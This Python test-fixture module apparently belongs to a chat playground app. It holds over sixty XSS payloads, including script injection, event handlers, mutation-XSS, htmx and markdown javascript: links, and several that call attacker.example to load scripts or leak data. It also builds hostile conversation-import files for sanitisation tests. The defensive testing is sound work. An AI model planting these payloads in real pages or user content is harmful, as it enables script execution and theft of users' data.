"""XSS payloads for untrusted text (model output, titles, names).

Each one, if it ever ran, would set ``window.__xss``, open a dialog, break out of its
element, or load something from another origin; the browser test watches for all four.
"""

from __future__ import annotations

EVIL = "https://attacker.example"

PAYLOADS: tuple[str, ...] = (
    # Plain HTML: script, event handlers, dangerous elements.
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<svg onload="window.__xss=1">',
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<iframe src="javascript:window.top.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<details open ontoggle="window.__xss=1">x</details>',
    '<input autofocus onfocus="window.__xss=1">',
    "<body onload=alert(1)>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://attacker.example/">',
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>@import 'https://attacker.example/x.css';body{background:url(https://attacker.example/b)}</style>",
    '<div style="background:url(https://attacker.example/bg.png)">styled</div>',
    '<a href="javascript:window.__xss=1">click me</a>',
    '<a href="&#x6a;avascript:alert(1)">entity scheme</a>',
    '<a href="http://x" onclick="window.__xss=1">handler on a link</a>',
    '<form action="https://attacker.example"><button>go</button></form>',
    "<x onclick=alert(1)>unknown tag</x>",
    "<template><script>alert(1)</script></template>",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
    '<img srcset="https://attacker.example/a.png 1x">',
    # Mutation XSS: markup that changes meaning when parsed twice.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x`onerror=alert(1)>',
    # Attribute, title and textarea break-outs (titles go into title="" and <title>).
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    # htmx attributes: markup that htmx would act on if it ever became elements.
    '<div hx-get="/endpoints/" hx-trigger="load" hx-target="body">htmx load</div>',
    '<div hx-on::load="window.__xss=1" hx-on:click="alert(1)">hx-on</div>',
    '<button data-hx-post="/accounts/logout/" data-hx-trigger="load">x</button>',
    '<div hx-ext="ws" ws-connect="wss://attacker.example/ws">ws</div>',
    # Markdown links and images.
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript://%0aalert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![pixel](https://attacker.example/pixel.png?secret=1)",
    "![local](http://127.0.0.1:9/track.gif)",
    "[![img](https://attacker.example/b.png)](https://attacker.example/)",
    '<img src="https://attacker.example/a.png">',
    '![x" onerror="alert(1)](https://attacker.example/c.png)',
    # Entities and code that must stay text.
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n<script>window.__xss=1</script>\n```",
    "{{ 7|add:7 }} {% now 'Y' %} ${alert(1)}",
)

assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)


# --- File import: every field of an import file that reaches a page ---------------------

# Where an import file's text lands on a page (chat/imports.py); each imported conversation
# carries one payload in all of them.
IMPORT_SINKS: tuple[str, ...] = (
    "conversation title",
    "conversation system prompt",
    "lane model and system prompt",
    "user message content",
    "assistant content (rendered again from markdown)",
    "assistant reasoning",
    "assistant model",
    "finish_reason",
    "choices[].content (n > 1)",
    "choices[].html (must be thrown away)",
    "choices[].finish_reason",
    "logprobs tokens",
    "tool_calls name and arguments",
    "tool result name and content",
    "error message, type, code and body",
    "request_body and raw_response (the inspector)",
    "vote lanes' profile and model (the leaderboard)",
)


def import_conversation(payload: str, number: int) -> dict:
    """A conversation of the app's export format with `payload` in every sink."""
    short = payload[:50]
    call = {"id": f"call_{number}", "type": "function",
            "function": {"name": payload[:64], "arguments": payload}}  # fmt: skip
    answer = {
        "lane": 0, "turn": 1, "role": "assistant", "model": payload[:200], "content": payload,
        "reasoning": payload, "finish_reason": short, "status": "complete",
        "choices": [
            {"index": 0, "content": payload, "finish_reason": short},
            {"index": 1, "content": payload, "finish_reason": short, "html": payload},
        ],
        "chosen": 0,
        "logprobs": [{"token": payload, "logprob": -0.1, "top": [{"token": payload}]}],
        "request_body": {"model": payload, "messages": [{"role": "user", "content": payload}]},
        "raw_response": [payload],
        "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
    }  # fmt: skip
    return {
        "title": payload[:200],
        "system_prompt": payload,
        "lanes": [
            {"position": 0, "model": payload[:200], "system_prompt": payload},
            {"position": 1, "model": "other"},
        ],
        "messages": [
            {"lane": None, "turn": 1, "role": "user", "content": payload},
            answer,
            {
                "lane": 1,
                "turn": 1,
                "role": "assistant",
                "content": payload,
                "status": "error",
                "error": {
                    "message": payload,
                    "type": short,
                    "code": short,
                    "body": payload,
                    "status": 500,
                },
            },
            {"lane": None, "turn": 2, "role": "user", "content": payload},
            {
                "lane": 0,
                "turn": 2,
                "role": "assistant",
                "content": "",
                "tool_calls": [call],
                "finish_reason": "tool_calls",
                "status": "complete",
            },
            {
                "lane": 0,
                "turn": 2,
                "role": "tool",
                "tool_call_id": f"call_{number}",
                "name": payload[:200],
                "content": payload,
            },
        ],  # fmt: skip
        "votes": [
            {
                "turn": 1,
                "verdict": "winner",
                "winner_position": 0,
                "lanes": [
                    {"position": 0, "label": "A", "profile": payload[:100], "model": payload[:200]},
                    {"position": 1, "label": "B", "profile": "Local", "model": "other"},
                ],
            },
        ],  # fmt: skip
    }


def import_document(payloads: tuple[str, ...] = PAYLOADS) -> dict:
    return {
        "format": "playground.conversations",
        "version": 1,
        "conversations": [import_conversation(p, n) for n, p in enumerate(payloads)],
    }


HTMX_LOAD = next(p for p in PAYLOADS if 'hx-trigger="load"' in p)
# Files that must be refused, naming the field (the first: the audit's, issue 16).
HOSTILE_IMPORTS: tuple[tuple[dict, str], ...] = tuple(
    (
        {
            "format": "playground.conversations",
            "version": 1,
            "conversations": [
                {
                    "lanes": [{"position": 0}],
                    "messages": [
                        {"lane": None, "turn": 1, "role": "user", "content": "q"},
                        {
                            "lane": 0,
                            "turn": 1,
                            "role": "assistant",
                            "content": "a",
                            "chosen": 0,
                            "choices": [{"index": 0, "content": "a"}, choice],
                        },
                    ],
                }
            ],
        },
        "conversations[0].messages[1].choices[1]",
    )  # fmt: skip
    for choice in (
        {"index": 2, "content": 5, "html": HTMX_LOAD},
        {"index": 1, "content": [HTMX_LOAD, PAYLOADS[2]]},
        {"index": 1, "content": {"html": PAYLOADS[2]}},
        {"index": 1, "html": PAYLOADS[0]},
    )
)
